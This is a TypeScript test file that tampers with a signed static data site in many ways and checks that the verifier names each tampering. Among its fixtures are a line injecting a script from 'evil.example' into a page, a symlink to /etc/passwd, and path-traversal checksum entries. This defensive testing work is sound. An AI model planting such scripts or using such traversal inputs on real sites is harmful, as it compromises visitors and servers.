/**
 * What a host, a mirror or a thief can do to a signed site, and how `verify` names it: in a folder and over HTTP, with and
 * without a key or pin. For one changed file without signatures see `tampered.test.ts`.
 */
import { lstat, mkdir, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises'
import { extname, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { toJson } from '../../pipeline/base/json.ts'
import { fingerprintOf, signSsh } from '../../pipeline/base/sshsig.ts'
import { EVENTS_PATH, INDEX_PATH, publishedPath } from '../../pipeline/contract/published-paths.ts'
import type { Pin } from '../../pipeline/publication/trust.ts'
import { verify } from '../../pipeline/publication/verify.ts'
import { verifyUrl } from '../../pipeline/publication/verify-remote.ts'
import type { SignatureOptions } from '../../pipeline/publication/verify-signatures.ts'
import type { EventDraft } from '../../pipeline/release/events.ts'
import { withStatus } from '../../pipeline/release/index.ts'
import { createWorkspace, newWorkspace, removeWorkspace, type Workspace } from '../support/pipeline.ts'
import { relistReleases, replaceInRelease } from '../support/reseal.ts'
import {
  addEvents,
  copyTree,
  filesIn,
  type Holder,
  indexIn,
  keyAdded,
  put,
  releaseSigned,
  relink,
  relinkReleases,
  resign,
  say,
  withdrawSigned,
  writeKeys,
} from '../support/signed-history.ts'
import { serveFolder } from '../support/static-host.ts'

const DATASET = 'datasets/rankings-daily/v1'
const [FIRST, SECOND, THIRD, FOURTH] = ['20250305T100000Z', '20250310T100000Z', '20250310T110000Z', '20250310T130000Z']
const NOW = new Date('2025-03-11T00:00:00Z')
const LATER = new Date('2026-11-24T00:00:00Z')

let workspace: Workspace
/** What is published now, what was before the withdrawal, a copy to attack, and a tree that the forger made. */
let now: string
let before: string
let tree: string
let forged: string
let signing: Holder
let recovery: Holder
let forger: Holder
let key: string
let pin: Pin

beforeAll(async () => {
  workspace = await createWorkspace()
  ;({ signing, recovery } = await writeKeys(workspace))
  key = fingerprintOf(signing.public)
  now = workspace.publicDir
  before = join(workspace.root, 'before')
  tree = join(workspace.root, 'tree')
  for (const [name, text] of [['robots.txt', 'User-agent: *\n'], ['CNAME', 'data.example\n'], ['assets/logo.png', 'logo']] as const) await put(now, name, text) // biome-ignore format: one line
  await releaseSigned(workspace, [['2025-02-27', 1], ['2025-02-28', 5]], '2025-03-05T10:00:00Z') // biome-ignore format: rows
  await releaseSigned(workspace, [['2025-02-27', 1], ['2025-02-28', 7], ['2025-03-02', 9]], '2025-03-10T10:00:00Z') // biome-ignore format: rows
  await releaseSigned(workspace, [['2025-02-27', 1], ['2025-02-28', 8], ['2025-03-02', 9]], '2025-03-10T11:00:00Z') // biome-ignore format: rows
  await copyTree(now, before)
  await withdrawSigned(workspace, SECOND, '2025-03-10T12:00:00Z')
  await releaseSigned(workspace, [['2025-02-27', 1], ['2025-02-28', 8], ['2025-03-02', 9], ['2025-03-04', 6, 'b']], '2025-03-10T13:00:00Z') // biome-ignore format: rows
  const onPin = async (seen: Pin) => {
    pin = seen
  }
  await verify(now, { ...QUIET, signatures: { now: NOW, key }, onPin })
  const forging = await createWorkspace()
  forger = (await writeKeys(forging)).signing
  await releaseSigned(forging, [['2025-02-27', 1], ['2025-03-04', 999, 'b']], '2025-03-10T13:00:00Z') // biome-ignore format: rows
  forged = await copyTree(forging.publicDir, join(workspace.root, 'forged'))
  await removeWorkspace(forging)
})

afterAll(() => removeWorkspace(workspace))

const QUIET = { signal: new AbortController().signal, report: () => {}, withPages: false }
const PATIENCE = { idleMs: 30_000, waitsMs: [] }

function inFolder(root: string, trust: Partial<SignatureOptions> = {}) {
  return verify(root, { ...QUIET, signatures: { now: NOW, ...trust } })
}

async function overHttp(root: string, trust: Partial<SignatureOptions> = {}) {
  const { url, requests } = await serveFolder(root)
  const options = { signal: QUIET.signal, report: () => {}, onVerified: () => {}, patience: PATIENCE }
  return { url, requests, verified: verifyUrl(url, { ...options, signatures: { now: NOW, ...trust } }) }
}

function named(message: string) {
  return expect.objectContaining({ name: 'BuildError', message: expect.stringContaining(message) })
}

/** One bit of each file that is somewhere in its middle, the same in each run. */
function flipped(bytes: Buffer, path: string): Buffer {
  const copy = Buffer.from(bytes)
  const place = (path.length * 7919) % copy.length
  copy.writeUInt8(copy.readUInt8(place) ^ (1 << (path.length % 8)), place)
  return copy
}

/** One file of each step, cache class and ending, and all that are alone in what they are. */
async function oneOfEach(): Promise<string[]> {
  const paths = (await filesIn(now)).filter((path) => path !== `${DATASET}/latest`)
  const kinds = Map.groupBy(paths, (path) => {
    const { step, cache, readers } = publishedPath(path)
    const isOfKind = ['signatures', 'index', 'catalog', 'site'].includes(step) && path.split('/').length < 2
    const ending = path.endsWith('.gz') ? extname(path.slice(0, -3)) + extname(path) : extname(path)
    return [step, cache, readers, isOfKind ? path : ending, path.split('/')[3] ?? path.split('/')[0]].join(' ')
  })
  const superseded = paths.filter((path) => new RegExp(`${DATASET}/(daily|monthly)/.*/r1`).test(path))
  return [...new Set([...kinds.values()].map((all) => all[all.length >> 1] ?? '').concat(superseded))]
}

/** Files without which nothing else is read, so that each is named alone. */
const READ_FIRST = new RegExp(
  `^(SHA256SUMS|site\\.json|allowed_signers|${DATASET}/(chain|coverage|latest|releases/index)\\.json|.*manifest\\.json)|\\.sig$`,
)

describe('one flipped bit', () => {
  it('in a file of every class is counted over HTTP, also in superseded revisions after a withdrawal', async () => {
    await copyTree(now, tree)
    const paths = (await oneOfEach()).filter((path) => !READ_FIRST.test(path) && !/^docs\/index\.html/.test(path))
    expect(paths).toContain(`${DATASET}/daily/2025-02-28/r1.json`)
    expect(paths.length).toBeGreaterThan(40)
    for (const path of paths) await writeFile(join(tree, path), flipped(await readFile(join(tree, path)), path))
    const { verified } = await overHttp(tree, { pin })
    await expect(verified).rejects.toThrow(named(`and ${paths.length - 5} more`))
  })

  it('in a file that is read first is named over HTTP', async () => {
    await copyTree(now, tree)
    const { url } = await serveFolder(tree)
    for (const path of (await oneOfEach()).filter((each) => READ_FIRST.test(each))) {
      const bytes = await readFile(join(tree, path))
      await writeFile(join(tree, path), flipped(bytes, path))
      const options = { signal: QUIET.signal, report: () => {}, onVerified: () => {}, patience: PATIENCE }
      const verified = verifyUrl(url, { ...options, signatures: { now: NOW, pin } })
      // A list with another name in it asks for a file that is not there.
      const what = path === 'SHA256SUMS' ? /SHA256SUMS|is missing/ : named(path.replace(/\.sig$/, ''))
      await expect(verified, path).rejects.toThrow(what)
      await writeFile(join(tree, path), bytes)
    }
  })
})

/** What is done to the tree, what is named, what the reader knows, and whether a host can do it, too. */
interface Attack {
  how: string
  change(): Promise<unknown>
  names: string
  trust?: () => Partial<SignatureOptions>
  /** What is named over HTTP if a host can do it. */
  remote?: string
}

const DAY = `${DATASET}/daily/2025-02-28`
const NEWEST = `${DATASET}/releases/${FOURTH}`
const CSV = `${NEWEST}/rankings-daily.csv`
const at = '2025-03-10T14:00:00Z'

async function swap(one: string, other: string): Promise<void> {
  const place = join(tree, one)
  await rename(place, `${place}.swap`)
  await rename(join(tree, other), place)
  await rename(`${place}.swap`, join(tree, other))
}

async function edit(path: string, change: (bytes: Buffer) => Buffer | string): Promise<void> {
  await writeFile(join(tree, path), change(await readFile(join(tree, path))))
}

async function strip(): Promise<void> {
  const names = ['SHA256SUMS', 'site.json'].flatMap((name) => [name, `${name}.sig`])
  for (const name of [...names, 'allowed_signers']) await rm(join(tree, name))
}

const isOfKeys = ({ kind }: EventDraft) => kind === 'key_added'
const added = (holder: Holder, role: 'signing' | 'recovery', by?: Holder): EventDraft => {
  return keyAdded(holder, role, { at, by })
}

/** A key that somebody else calls a signing key. */
const namedOnly = (holder: Holder, by: Holder): EventDraft => {
  return { kind: 'key_added', at, key: holder.public, role: 'signing', signedBy: by.private }
}

async function addRow(): Promise<void> {
  const folder = join(tree, NEWEST)
  const csv = await readFile(join(folder, 'rankings-daily.csv'), 'utf8')
  await replaceInRelease(folder, 'rankings-daily.csv', `${csv}2025-03-04,c,5\n`)
}

/** Makes the index fit, but not the events. */
async function relist(): Promise<void> {
  const events = await readFile(join(tree, EVENTS_PATH))
  await relistReleases({ ...workspace, publicDir: tree })
  await put(tree, EVENTS_PATH, events.toString())
}

async function rewriteReason(): Promise<void> {
  for (const path of [INDEX_PATH, `${DATASET}/releases/${SECOND}/TOMBSTONE.json`, 'feed.json', 'feed.atom']) {
    await say(tree, path, 'It was wrong.', 'A formality.')
  }
}

const byKey = () => ({ key })
const byPin = () => ({ pin })

const ATTACKS: Attack[] = [
  // One file.
  { how: 'two files of a day swapped', change: () => swap(`${DAY}/r1.json`, `${DAY}/r3.json`), names: `${DAY}/r1.json was changed`, remote: `${DAY}/r1.json was changed` },
  { how: 'files of two releases swapped', change: () => swap(CSV, `${DATASET}/releases/${FIRST}/rankings-daily.csv`), names: `${CSV} was changed` },
  { how: 'a byte cut off', change: () => edit(CSV, (bytes) => bytes.subarray(0, -1)), names: `${CSV} was changed` },
  { how: 'bytes appended to a superseded revision', change: () => edit(`${DAY}/r1.json`, (bytes) => `${bytes} `), names: `${DAY}/r1.json was changed` },
  { how: 'a superseded revision removed', change: () => rm(join(tree, DAY, 'r1.json')), names: `${DAY}/r1.json is missing`, remote: `${DAY}/r1.json is missing` },
  { how: 'a script in a page', change: () => edit('changelog.html', (bytes) => bytes.toString().replace('</head>', '<script src="https://evil.example/x.js"></script></head>')), names: 'changelog.html was changed', remote: 'changelog.html was changed' },
  { how: "the publisher's own file changed", change: () => put(tree, 'robots.txt', 'Disallow: /\n'), names: 'robots.txt was changed', remote: 'robots.txt was changed' },
  { how: "the publisher's own file removed", change: () => rm(join(tree, 'CNAME')), names: 'CNAME is missing', remote: 'CNAME is missing' },
  { how: 'a folder in place of a file', change: async () => { await rm(join(tree, 'CNAME')); await mkdir(join(tree, 'CNAME')) }, names: 'CNAME is no file' },
  { how: 'a link to another file in place of a file', change: async () => { await rm(join(tree, 'CNAME')); await symlink('/etc/passwd', join(tree, 'CNAME')) }, names: 'CNAME was changed' },
  { how: 'a link to itself in place of a file', change: async () => { await rm(join(tree, 'CNAME')); await symlink('CNAME', join(tree, 'CNAME')) }, names: 'CNAME cannot be read' },
  { how: 'another licence everywhere', change: async () => { for (const path of await filesIn(tree)) if (/(^|\/)LICENSE$/.test(path)) await put(tree, path, 'All rights reserved.\n') }, names: 'LICENSE was changed', remote: 'LICENSE was changed' },
  // Strays. A host does not list its files.
  ...['stray.txt', 'assets/stray.js', 'days/stray.html', 'datasets/stray.csv', `${DAY}/r4.json`, `${NEWEST}/more/stray.csv`].map((path): Attack => ({ how: `a stray ${path}`, change: () => put(tree, path, 'stray'), names: `${path} is not listed` })),
  ...['stray', 'assets/stray', `${DATASET}/daily/stray`].map((path): Attack => ({ how: `a link out of the folder at ${path}`, change: () => symlink(before, join(tree, path)), names: `${path}${path === 'stray' ? '/' : ' is not listed'}` })),
  { how: 'a link that leads nowhere', change: () => symlink('/nowhere', join(tree, 'assets/stray')), names: 'assets/stray is not listed' },
  // Releases and what is told of them, without a key.
  { how: 'added rows, and the manifest and checksums made anew', change: addRow, names: `${DATASET}/latest/README.md was changed` },
  { how: 'added rows, and the index made anew', change: async () => { await addRow(); await relist() }, names: `${EVENTS_PATH} tells of ${FOURTH}` },
  { how: 'added rows, and the index and events made anew', change: async () => { await addRow(); await relist(); await relinkReleases(tree) }, names: 'site.json is of head' },
  { how: 'the newest release removed, and the index and events made anew', change: async () => {
    await rm(join(tree, NEWEST), { recursive: true })
    const index = await indexIn(tree)
    await put(tree, INDEX_PATH, toJson(withStatus({ ...index, releases: index.releases.slice(0, -1) })))
    const old = join(before, DATASET)
    await rm(join(tree, DATASET, 'latest'))
    await symlink(`releases/${THIRD}`, join(tree, DATASET, 'latest'))
    await put(tree, `${DATASET}/latest.json`, await readFile(join(old, 'latest.json')))
    await relinkReleases(tree)
  }, names: `site.json is of release ${FOURTH}` },
  { how: 'another reason of a withdrawal everywhere but in the events', change: rewriteReason, names: `${EVENTS_PATH} tells of the withdrawal of ${SECOND}`, remote: `${EVENTS_PATH} tells of the withdrawal of ${SECOND}` },
  { how: 'another reason of a withdrawal everywhere', change: async () => { await rewriteReason(); await relink(tree, (drafts) => drafts.map((draft) => draft.kind === 'withdrawal' ? { ...draft, reason: 'A formality.' } : draft)) }, names: 'site.json is of head' },
  { how: 'the signed site of an earlier time', change: async () => { for (const name of ['site.json', 'site.json.sig']) await put(tree, name, await readFile(join(before, name))) }, names: 'site.json is of release', remote: 'site.json is of release' },
  { how: 'the list of an earlier time', change: async () => { for (const name of ['SHA256SUMS', 'SHA256SUMS.sig']) await put(tree, name, await readFile(join(before, name))) }, names: 'site.json is of sha256sums' },
  // Forgers with a key of their own.
  { how: 'all signed by another key', change: async () => { await put(tree, 'robots.txt', 'x'); await resign(tree, forger) }, names: 'site.json is signed by', remote: 'site.json is signed by' },
  { how: 'signed by the right key for another purpose', change: async () => put(tree, 'site.json.sig', signSsh(await readFile(join(tree, 'site.json')), signing.private, 'git')), names: 'site.json has no valid signature' },
  ...([['without a signature', undefined], ['with a signature of its own', () => forger]] as const).map(([how, by]): Attack => ({ how: `a key slipped in ${how}`, change: async () => { await addEvents(tree, [added(forger, 'signing', by?.())]); await resign(tree, forger) }, names: 'no key in force has signed the event that adds', remote: `${EVENTS_PATH}: no key in force` })),
  { how: 'a key slipped in with the signature of an earlier event', change: async () => {
    await addEvents(tree, [added(forger, 'signing')])
    const chain = JSON.parse(await readFile(join(tree, EVENTS_PATH), 'utf8'))
    chain.events.at(-1).signature = chain.events.find((event: { signature?: string }) => event.signature !== undefined).signature
    await put(tree, EVENTS_PATH, toJson(chain))
    await resign(tree, forger)
  }, names: 'no key in force has signed the event that adds' },
  { how: 'all events under the key of a forger, who names the right one', change: async () => { await relink(tree, (drafts) => [added(forger, 'signing'), namedOnly(signing, forger), ...drafts.filter((draft) => !isOfKeys(draft))]); await resign(tree, forger) }, names: 'has not signed the event that adds it', trust: byKey, remote: 'has not signed the event that adds it' },
  { how: 'all events under the key of a forger, who names the right one as for recovery', change: async () => { await relink(tree, (drafts) => [added(forger, 'signing'), added(signing, 'recovery', forger), ...drafts.filter((draft) => !isOfKeys(draft))]); await resign(tree, forger) }, names: 'was never a', trust: byKey },
  { how: 'all events under the key of a forger', change: async () => { await relink(tree, (drafts) => [added(forger, 'signing'), ...drafts.filter((draft) => !isOfKeys(draft)), { kind: 'looser_disclosure', at, release: FOURTH }]); await resign(tree, forger) }, names: 'the events do not follow from what was pinned', trust: byPin },
  ...([['pin', byPin], ['key', byKey]] as const).flatMap(([what, trust]): Attack[] => [
    { how: `a forged loss of the keys, against a ${what}`, change: async () => { await addEvents(tree, [{ kind: 'key_lost', at }, added(forger, 'signing')]); await resign(tree, forger) }, names: 'the site says that its keys were lost', trust, remote: 'the site says that its keys were lost' },
    { how: `a forged end of signing, against a ${what}`, change: async () => { await addEvents(tree, [{ kind: 'signing_stopped', at }]); await strip() }, names: 'is not signed any more', trust },
    { how: `all signatures and keys taken away, against a ${what}`, change: async () => { await relink(tree, (drafts) => drafts.filter((draft) => !isOfKeys(draft))); await strip() }, names: 'is not signed', trust },
    { how: `a tree made from nothing, against a ${what}`, change: () => copyTree(forged, tree), names: what === 'pin' ? 'it is an older copy, or events were removed' : 'was never a signing key of this site', trust },
  ]),
  { how: 'the signatures alone taken away', change: strip, names: 'site.json is missing', remote: 'site.json is missing' },
  { how: 'the events taken away', change: () => rm(join(tree, EVENTS_PATH)), names: 'SHA256SUMS is there, but datasets', remote: 'SHA256SUMS is there, but datasets' },
  // Thieves of the signing key.
  { how: 'all events made anew with the stolen key', change: async () => { await relink(tree, (drafts) => [added(signing, 'signing'), ...drafts.filter((draft) => !isOfKeys(draft)), { kind: 'looser_disclosure', at, release: FOURTH }]); await resign(tree, signing) }, names: 'the events do not follow from what was pinned', trust: byPin },
  { how: 'another recovery key signed for with the stolen key', change: async () => { await addEvents(tree, [added(forger, 'recovery', signing)]); await resign(tree, signing) }, names: 'no key in force has signed the event that adds' },
  { how: 'the recovery key made a signing key with the stolen key', change: async () => { await addEvents(tree, [namedOnly(recovery, signing), added(forger, 'recovery', signing)]); await resign(tree, signing) }, names: 'no key in force has signed the event that adds' },
  { how: 'the recovery key retired with the stolen key', change: async () => { await addEvents(tree, [{ kind: 'key_retired', at, key: recovery.public, signedBy: signing.private }]); await resign(tree, signing) }, names: 'no key in force has signed the event that retires' },
  ...['../evil', '/evil', 'a//b', './evil', 'a/../../evil', '.hidden', 'a\\b', `long/${'x'.repeat(300)}`].map((path): Attack => ({ how: `a list with ${path.slice(0, 16)}`, change: () => resign(tree, signing, (list) => [`${'0'.repeat(64)}  ${path}`, ...list.trimEnd().split('\n')].sort((a, b) => a.slice(66) < b.slice(66) ? -1 : 1).join('\n').concat('\n')), names: 'SHA256SUMS has lines that are not checksums of files below it' })),
  { how: 'a list with a file twice', change: () => resign(tree, signing, (list) => `${list}${list.split('\n').at(-2)}\n`), names: 'SHA256SUMS has lines that are not checksums of files below it' },
  // Old copies.
  { how: 'the whole tree of an earlier time, against a pin', change: () => copyTree(before, tree), names: 'it is an older copy', trust: byPin, remote: 'it is an older copy' },
  { how: 'the whole tree of an earlier time, too old', change: () => copyTree(before, tree), names: 'site.json is stale', trust: () => ({ now: LATER, isFresh: true }), remote: 'site.json is stale' },
  { how: 'an older signature of the same, against a pin', change: async () => {}, names: 'is newer: it is an older copy', trust: () => ({ pin: { ...pin, issued: '2025-03-20T00:00:00.000Z' } }) },
] // biome-ignore format: one line an attack

describe('is named', () => {
  beforeAll(() => copyTree(now, tree))

  it.each(ATTACKS)('$how', async ({ change, names, trust = () => ({}), remote }) => {
    await copyTree(now, tree)
    await change()
    await expect(inFolder(tree, trust())).rejects.toThrow(named(names))
    if (remote === undefined) return
    const { verified } = await overHttp(tree, trust())
    await expect(verified).rejects.toThrow(named(remote))
  })
})

describe('over HTTP', () => {
  it('a list of names that lead elsewhere writes nothing outside, and asks nothing else', async () => {
    await copyTree(now, tree)
    const line = (path: string) => `${'0'.repeat(64)}  ${path}\n`
    const evil = ['../evil', '/evil', 'a/../../evil', '//evil.example/x', 'http:evil', 'robots.txt/x', 'a#b', 'a?b', '%2e%2e/x', 'x\0y', 'x'.repeat(300)] // biome-ignore format: one line
    await edit('SHA256SUMS', (bytes) => `${bytes}${evil.map(line).join('')}`)
    const { root } = await newWorkspace()
    const scratch = join(root, 'input')
    vi.stubEnv('TMPDIR', scratch)
    const { url, requests, verified } = await overHttp(tree, { pin })
    await expect(verified).rejects.toThrow(named(url))
    expect(await filesIn(root)).not.toContainEqual(expect.stringMatching(/evil|x$/))
    expect([...requests.keys()].filter((path) => /(^|\/)evil$/.test(path))).toEqual([])
    expect(await lstat(join(root, 'evil')).catch(() => undefined)).toBeUndefined()
  })

  it("an answer of the host's own about the API is told as not compared", async () => {
    await copyTree(now, tree)
    await edit('docs/index.html', (bytes) => `${bytes}<script></script>`)
    const { verified } = await overHttp(tree, { pin })
    expect((await verified).signature.not_compared).toContain('docs/index.html')
  })
})

describe('is not named', () => {
  it('a hidden file, which is never published, and a stale copy without --fresh', async () => {
    await copyTree(now, tree)
    await put(tree, '.well-known/stray.txt', 'stray')
    expect((await inFolder(tree, { now: LATER, pin })).signature).toMatchObject({ stale: true, signed_by: key })
  })

  it('a tree that a forger made from nothing, to readers who know nothing', async () => {
    expect((await inFolder(forged)).signature.signed_by).toBe(fingerprintOf(forger.public))
  })
})
